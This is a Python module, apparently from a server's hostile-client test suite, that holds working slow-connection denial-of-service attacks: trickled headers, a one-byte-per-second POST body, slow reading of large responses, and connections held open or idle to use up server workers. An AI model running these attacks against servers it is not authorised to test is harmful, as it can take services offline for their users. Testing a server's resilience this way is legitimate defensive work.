"""The slow attacks: heads and bodies trickled, responses read slowly, connections never closed.

Each attack opens `Context.connections` connections at once (twice the
workers, so that a server giving each a worker has none left for anybody
else) and holds them for `Context.duration` seconds, then closes them.
`paced` drives them all from one thread with non-blocking sends: at time
*t* each connection has been sent ``due(t)`` bytes of its request, so
a trickle is a schedule, not a sleep per byte.

A slow head sends its padding header lines in the first quarter of the
duration (that is how a head grows past the master's buffer) and then one
byte of a last header every 0.1 s; the empty line that ends it goes out
at the end, and the answer is read. A slow body sends a head with
``Content-Length: N`` and its N body bytes at 1 byte/s, N chosen so the
body ends with the attack. A slow reader asks for 16 MiB with a small
receive buffer and reads 16 KiB a second. A never-closing client sends a
request (``Connection: close``, or a bad one) and then neither reads
nor closes.

Invariants: every socket is closed before the function returns; no wait
is longer than the duration plus `READ_TIMEOUT`.
"""

from __future__ import annotations

import math
import selectors
import socket
import time
from collections.abc import Callable
from contextlib import ExitStack

from _hostile_net import Tally, read_reply
from _hostile_procs import Target

READ_TIMEOUT = 5.0
OPEN_TIMEOUT = 10.0
TICK = 0.05
TRICKLE_RATE = 10  # bytes per second, for the slow end of a head


def _open(target: Target, count: int, stack: ExitStack, rcvbuf: int | None = None,
          tally: Tally | None = None, within: float = OPEN_TIMEOUT) -> list[socket.socket]:
    """Open up to `count` connections within `within` seconds (each closed by `stack`)."""
    socks: list[socket.socket] = []
    deadline = time.monotonic() + within
    for _ in range(count):
        if time.monotonic() > deadline:
            if tally is not None:
                tally.add("not opened in time")
            continue
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        stack.enter_context(sock)
        if rcvbuf is not None:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.settimeout(max(0.1, min(5.0, deadline - time.monotonic())))
        try:
            sock.connect((target.host, target.port))
        except OSError as error:
            if tally is not None:
                tally.add(f"connect: {type(error).__name__}")
            continue
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        socks.append(sock)
    return socks


def paced(socks: list[socket.socket], data: bytes, due: Callable[[float], int],
          duration: float) -> None:
    """Send `data` on every socket, ``due(t)`` bytes by time t, until `duration` ends."""
    sent = dict.fromkeys(socks, 0)
    start = time.monotonic()
    for sock in socks:
        sock.setblocking(False)
    while sent:
        elapsed = time.monotonic() - start
        wanted = len(data) if elapsed >= duration else min(len(data), due(elapsed))
        for sock in list(sent):
            if sent[sock] >= wanted:
                continue
            try:
                sent[sock] += sock.send(data[sent[sock]:wanted])
            except BlockingIOError:
                pass
            except OSError:
                del sent[sock]  # reset or closed by the server: nothing more to send
        if elapsed >= duration or all(count >= len(data) for count in sent.values()):
            break
        time.sleep(TICK)


def _replies(socks: list[socket.socket], tally: Tally, timeout: float = READ_TIMEOUT) -> None:
    for sock in socks:
        sock.setblocking(True)
        tally.add(read_reply(sock, timeout, limit=1 << 16).outcome)
        sock.close()  # at once, as a client does: the server may be waiting for our end


def slow_head(size: int, path: str) -> Callable[[Target, float, int], Tally]:
    """A head of `size` bytes trickled over the duration (see the module's docstring)."""

    def attack(target: Target, duration: float, connections: int) -> Tally:
        line = f"GET {path} HTTP/1.1\r\nHost: slow\r\nConnection: close\r\n".encode()
        fields = max(1, min(90, size // 1024))
        width = max(1, (size - len(line)) // fields - len("X-Pad-00: \r\n"))
        pad = b"".join(b"X-Pad-%02d: " % index + b"a" * width + b"\r\n"
                       for index in range(fields))
        slow_part = b"X-Slow: " + b"y" * math.ceil(duration * TRICKLE_RATE) + b"\r\n"
        data = line + pad + slow_part + b"\r\n"
        bulk = len(line) + len(pad)
        quarter = duration / 4

        def due(elapsed: float) -> int:
            if elapsed < quarter:
                return int(bulk * elapsed / quarter)
            return bulk + int((elapsed - quarter) * TRICKLE_RATE)

        tally = Tally()
        with ExitStack() as stack:
            socks = _open(target, connections, stack, tally=tally)
            paced(socks, data, due, duration)
            _replies(socks, tally)
        return tally

    return attack


def slow_body(path: str) -> Callable[[Target, float, int], Tally]:
    """A body of one byte per second, as long as the duration."""

    def attack(target: Target, duration: float, connections: int) -> Tally:
        length = max(1, int(duration))
        head = (f"POST {path} HTTP/1.1\r\nHost: slow\r\nConnection: close\r\n"
                f"Content-Length: {length}\r\n\r\n").encode()
        tally = Tally()
        with ExitStack() as stack:
            socks = _open(target, connections, stack, tally=tally)
            paced(socks, head + b"x" * length, lambda t: len(head) + int(t), duration)
            _replies(socks, tally)
        return tally

    return attack


def slow_reader(path: str) -> Callable[[Target, float, int], Tally]:
    """Ask for `path` (16 MiB), then read 16 KiB a second with a 4 KiB receive buffer."""

    def attack(target: Target, duration: float, connections: int) -> Tally:
        request = f"GET {path} HTTP/1.1\r\nHost: slow\r\nConnection: close\r\n\r\n".encode()
        tally = Tally()
        with ExitStack() as stack:
            socks = _open(target, connections, stack, rcvbuf=4096, tally=tally)
            first: dict[socket.socket, bytes] = {}
            for sock in socks:
                sock.sendall(request)
            end = time.monotonic() + duration
            with selectors.DefaultSelector() as selector:
                for sock in socks:
                    selector.register(sock, selectors.EVENT_READ)
                while (left := end - time.monotonic()) > 0:
                    for key, _ in selector.select(min(left, 1.0)):
                        sock = key.fileobj  # type: ignore[assignment]
                        chunk = _recv(sock, 16 * 1024)
                        first.setdefault(sock, chunk)
                        if not chunk:
                            selector.unregister(sock)
                    time.sleep(min(1.0, max(0.0, end - time.monotonic())))
            for sock in socks:
                reply = first.get(sock, b"")
                tally.add(reply[9:12].decode("latin-1") if reply.startswith(b"HTTP/1.")
                          else "no answer" if sock not in first else "closed")
        return tally

    return attack


def _recv(sock: socket.socket, size: int) -> bytes:
    try:
        return sock.recv(size)
    except OSError:
        return b""


def never_closing(request: bytes) -> Callable[[Target, float, int], Tally]:
    """Send `request`, then neither read nor close until the duration ends."""

    def attack(target: Target, duration: float, connections: int) -> Tally:
        tally = Tally()
        with ExitStack() as stack:
            socks = _open(target, connections, stack, tally=tally)
            for sock in socks:
                sock.sendall(request)
            time.sleep(duration)  # the attack is to do nothing for this long
            for sock in socks:
                reply = read_reply(sock, 0.2, limit=1 << 16)
                if reply.outcome.isdigit():
                    tally.add(f"{reply.outcome}, then {reply.end}")
                else:
                    tally.add(reply.outcome)
        return tally

    return attack


def idle_crowd(target: Target, duration: float, count: int) -> Tally:
    """`count` connections that say nothing for the duration; how many the server closed."""
    tally = Tally()
    with ExitStack() as stack:
        socks = _open(target, count, stack, tally=tally)
        time.sleep(duration)  # idle is the attack
        closed = 0
        with selectors.DefaultSelector() as selector:
            for sock in socks:
                selector.register(sock, selectors.EVENT_READ)
            for key, _ in selector.select(0):
                closed += not _recv(key.fileobj, 1)  # type: ignore[arg-type]
        if socks:
            tally.counts[f"held {len(socks) - closed}"] += 1
        if closed:
            tally.counts[f"closed {closed}"] += 1
    return tally


__all__ = ["idle_crowd", "never_closing", "paced", "slow_body", "slow_head",
           "slow_reader"]
